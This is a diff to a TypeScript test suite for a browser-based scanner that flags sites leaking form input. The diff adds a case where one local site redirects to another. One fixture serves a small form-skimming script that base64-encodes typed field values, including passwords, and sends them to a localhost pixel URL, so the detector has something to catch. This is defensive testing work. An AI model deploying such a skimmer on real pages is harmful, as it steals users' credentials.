@@ -18,7 +18,7 @@ const truth = JSON.parse(readFileSync('scanner/corpus/ground-truth.json', 'utf8'
 interface Rec {
   key: string; target: string; url: string; status: string; browser: string; schemaVersion: number; score: number | null; grade: string | null;
   verdict: { surveillance: boolean; exfiltration: boolean; protectStopsExfiltration: boolean | null; exfiltrationProtected: boolean | null; thirdPartyOrigins: string[] } | null;
-  modes: Record<string, { fields: { kind: string }[]; exfil: { canary: string; encoding: string; source: string; channel: string }[] }>;
+  modes: Record<string, { finalUrl: string | null; fields: { kind: string }[]; exfil: { canary: string; encoding: string; source: string; channel: string }[] }>;
 }
 
 function run(args: string[]): { child: ChildProcess; stderr: () => string; exit: Promise<number | null> } {
@@ -164,6 +164,9 @@ describe.each(KINDS)('untapped scan in %s', (kind) => {
         res.end('<input type=password><script>addEventListener("load", () => setTimeout(() => { for (;;) {} }, 50))</script>');
       } else if (req.url === '/leak.js') {
         res.end('document.addEventListener("change", (e) => { new Image().src = "http://localhost:' + port + '/px?v=" + btoa(e.target.value); });');
+      } else if (req.url === '/moved/') {
+        res.writeHead(302, { location: `http://127.0.0.1:${port}/ok/` });
+        res.end();
       } else if (req.url === '/ok/') {
         res.end('<label>Password <input name=pw type=password></label><script src="http://localhost:' + port + '/leak.js"></script>');
       } else {
@@ -173,22 +176,32 @@ describe.each(KINDS)('untapped scan in %s', (kind) => {
     });
     await new Promise<void>((ok) => srv.listen(0, '127.0.0.1', ok));
     const port = (srv.address() as { port: number }).port;
+    // The same handler as another site, which redirects to the first.
+    const other = createServer((req, res) => srv.emit('request', req, res));
+    await new Promise<void>((ok) => other.listen(port, '127.0.0.2', ok));
     try {
       const out = mkdtempSync(join(tmpdir(), `untapped-list-${kind}-`));
       const list = join(out, 'sites.txt');
-      writeFileSync(list, `# two sites\nhttp://127.0.0.1:${port}/hang/\nhttp://127.0.0.1:${port}/ok/   # leaks the password\n`);
+      writeFileSync(list, `# three sites\nhttp://127.0.0.1:${port}/hang/\nhttp://127.0.0.1:${port}/ok/   # leaks the password\nhttp://127.0.0.2:${port}/moved/\n`);
       const r = run(['scan', list, '--out', out, '--browser', kind, '--timeout', '8', '--modes', 'monitor']);
       expect(await r.exit, r.stderr()).toBe(0);
       const recs = readRecords(out);
       expect(recs.map((x) => [x.url.replace(String(port), 'PORT'), x.status])).toEqual([
         ['http://127.0.0.1:PORT/hang/', 'timeout'],
         ['http://127.0.0.1:PORT/ok/', 'ok'],
+        ['http://127.0.0.2:PORT/moved/', 'ok'],
       ]);
       const ok = recs[1]!;
       expect(ok.verdict).toMatchObject({ surveillance: true, exfiltration: true, exfiltrationProtected: null });
       expect(ok.modes.monitor!.exfil.map((h) => [h.canary, h.encoding, h.source])).toContainEqual(['password', 'base64', 'browser']);
       expect(ok.modes.protect).toBeUndefined();
+      // Redirected to another site: the tallies read are the landing site's, where the hook is.
+      const moved = recs[2]!;
+      expect(moved.modes.monitor!.finalUrl).toBe(`http://127.0.0.1:${port}/ok/`);
+      expect(moved.verdict).toMatchObject({ hooks: true, exfiltration: true, thirdPartyOrigins: [`http://localhost:${port}`] });
+      expect(r.stderr()).toContain('redirects to');
     } finally {
+      await new Promise((ok) => other.close(ok));
       await new Promise((ok) => srv.close(ok));
     }
   }, 300_000);
